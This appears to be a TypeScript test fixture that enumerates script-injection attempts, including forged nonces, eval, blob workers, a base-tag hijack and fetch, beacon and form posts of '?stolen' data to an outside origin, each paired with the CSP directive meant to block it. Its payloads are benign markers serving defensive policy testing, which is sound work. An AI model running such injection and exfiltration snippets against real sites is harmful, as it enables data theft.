interface Attack {
  readonly name: string;
  /** The directive of the policy that has to block it. */
  readonly directive: string;
  /** Runs in the page. `add` appends an element to the body; `outside` is the origin of a server that would answer. */
  readonly code: string;
}

const INJECT = "window.injected = true";
const AS_FILE = `URL.createObjectURL(new Blob(["${INJECT}"], { type: "text/javascript" }))`;
/** Runs code in a new task, because the policy does not apply to code that the test evaluates. */
const inNewTask = (code: string): string => `setTimeout(() => { ${code} })`;

/** Attacks of an injected script: `[name, directive, code]`. */
const ATTACKS: readonly (readonly [string, string, string])[] = [
  ["a script in the page", "script-src-elem", `add("script", { textContent: "${INJECT}" })`],
  ["a script with a made-up nonce", "script-src-elem", `add("script", { nonce: "AAAA", textContent: "${INJECT}" })`],
  [
    "a script with the nonce of the styles",
    "script-src-elem",
    `add("script", { nonce: document.querySelector("meta[name=csp-nonce]").content, textContent: "${INJECT}" })`,
  ],
  ["a script from elsewhere", "script-src-elem", 'add("script", { src: outside + "/x.js" })'],
  ["a script of data", "script-src-elem", `add("script", { src: "data:text/javascript,${INJECT}" })`],
  ["a script of a blob", "script-src-elem", `add("script", { src: ${AS_FILE} })`],
  ["a link that is a script", "script-src-elem", `add("a", { href: "javascript:${INJECT}" }).click()`],
  ["a handler in the markup", "script-src-attr", `add("button", {}, { onclick: "${INJECT}" }).click()`],
  ["eval", "script-src", inNewTask(`(0, eval)("${INJECT}")`)],
  ["a function from text", "script-src", inNewTask(`new Function("${INJECT}")()`)],
  [
    "compiled code",
    "script-src",
    inNewTask(`WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)).then(() => { ${INJECT} })`),
  ],
  ["a worker of a blob", "worker-src", `new Worker(${AS_FILE})`],
  ["a style without the nonce", "style-src-elem", 'add("style", { textContent: "body { --injected: 1 }" })'],
  ["a style in the markup", "style-src-attr", 'add("p", {}, { style: "background: red" })'],
  ["a style from elsewhere", "style-src-elem", 'add("link", { rel: "stylesheet", href: outside + "/x.css" })'],
  ["an image from elsewhere", "img-src", 'add("img", { src: outside + "/pixel.png" })'],
  ["a font from elsewhere", "font-src", 'new FontFace("x", "url(" + outside + "/x.woff2)").load().catch(() => 0)'],
  ["a sound from elsewhere", "media-src", 'new Audio(outside + "/x.mp3").play().catch(() => 0)'],
  ["a frame from elsewhere", "frame-src", 'add("iframe", { src: outside + "/frame" })'],
  ["a frame of our own page", "frame-src", 'add("iframe", { src: "/index.html" })'],
  ["a plug-in", "object-src", 'add("object", { data: outside + "/x.swf" })'],
  ["a request", "connect-src", 'fetch(outside + "/?stolen", { mode: "no-cors" }).catch(() => 0)'],
  ["a beacon", "connect-src", 'navigator.sendBeacon(outside + "/?stolen", "x")'],
  ["a socket", "connect-src", 'new WebSocket(outside.replace("http", "ws"))'],
  ["a stream of events", "connect-src", 'new EventSource(outside + "/events")'],
  ["another base of all addresses", "base-uri", 'add("base", { href: outside })'],
  ["a form", "form-action", 'add("form", { action: outside + "/?stolen", method: "post" }).submit()'],
];

const ADD = `const add = (name, properties, attributes = {}) => {
  const element = Object.assign(document.createElement(name), properties);
  for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
  document.body.append(element);
  return element;
};`;

export const pageAttacks = (outsideOrigin: string): readonly Attack[] =>
  ATTACKS.map(([name, directive, code]) => ({
    name,
    directive,
    code: `{ const outside = ${JSON.stringify(outsideOrigin)}; ${ADD} ${code}; } void 0`,
  }));
